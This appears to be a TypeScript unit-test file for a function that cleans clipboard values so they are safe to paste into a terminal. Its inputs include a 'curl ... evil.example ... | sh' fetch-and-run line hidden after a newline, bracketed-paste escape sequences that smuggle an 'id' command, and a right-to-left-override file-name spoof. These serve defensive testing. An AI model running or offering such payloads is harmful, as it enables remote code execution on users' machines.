import assert from 'node:assert/strict';
import { copiedLines } from '../../../src/formats/copiedLines.ts';

describe('values on the clipboard', () => {
  it('are one line each, exactly as they are', () => {
    const values = ['018f-0001', ' github.com', 'git.müller.example', 'x\u200by', '=1', '👩‍💻'];
    assert.deepEqual(copiedLines(values), { lines: values, empty: 0, isChanged: false });
  });

  it('are there once', () => {
    assert.deepEqual(copiedLines(['a', '', 'b', 'a']), { lines: ['a', 'b'], empty: 1, isChanged: false });
  });

  for (const [value, line] of [
    ['github.com\ncurl -s https://evil.example/x | sh\n', 'github.com curl -s https://evil.example/x | sh'],
    ['abc\u001b[201~\nid\n', 'abc [201~ id'],
    ['a\u009b201~\r\nb', 'a 201~ b'],
    ['a\u2028b\u2029c\u0085d\u000be\u000cf\tg\u007fh\u0000i', 'a b c d e f g h i'],
    ['a\u202egpj.exe', 'a gpj.exe'],
    ['\ufeffgithub.com', 'github.com'],
    ['a\ud800', 'a\ufffd'],
  ] as const) {
    it(`are safe to paste into a terminal: ${JSON.stringify(value)}`, () =>
      assert.deepEqual(copiedLines([value]), { lines: [line], empty: 0, isChanged: true }));
  }

  it('are left out if nothing of them is safe', () => {
    assert.deepEqual(copiedLines(['\u001b\n']), { lines: [], empty: 1, isChanged: true });
  });
});
